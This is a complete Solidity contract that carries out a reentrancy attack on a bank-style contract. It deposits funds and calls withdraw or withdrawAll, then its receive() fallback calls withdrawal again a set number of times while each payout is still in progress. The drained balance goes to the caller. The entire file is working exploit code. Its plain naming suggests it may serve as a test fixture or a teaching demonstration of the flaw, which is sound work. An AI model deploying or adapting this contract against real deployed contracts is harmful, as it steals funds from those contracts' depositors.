// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IBank {
    function deposit() external payable;

    function withdraw(uint256 amount) external;

    function withdrawAll() external;
}

/// Withdraws again while a withdrawal is being paid.
contract RepeatedWithdrawal {
    IBank private immutable bank;
    uint256 private left;
    uint256 private amount;

    constructor(IBank bank_) {
        bank = bank_;
    }

    function run(uint256 rounds) external payable {
        left = rounds;
        amount = msg.value;
        bank.deposit{value: msg.value}();
        bank.withdraw(amount);
        payable(msg.sender).transfer(address(this).balance);
    }

    /// Asks for everything each time.
    function runAll(uint256 rounds) external payable {
        left = rounds;
        bank.deposit{value: msg.value}();
        bank.withdrawAll();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (left == 0) return;
        left--;
        if (amount > 0) bank.withdraw(amount);
        else bank.withdrawAll();
    }
}
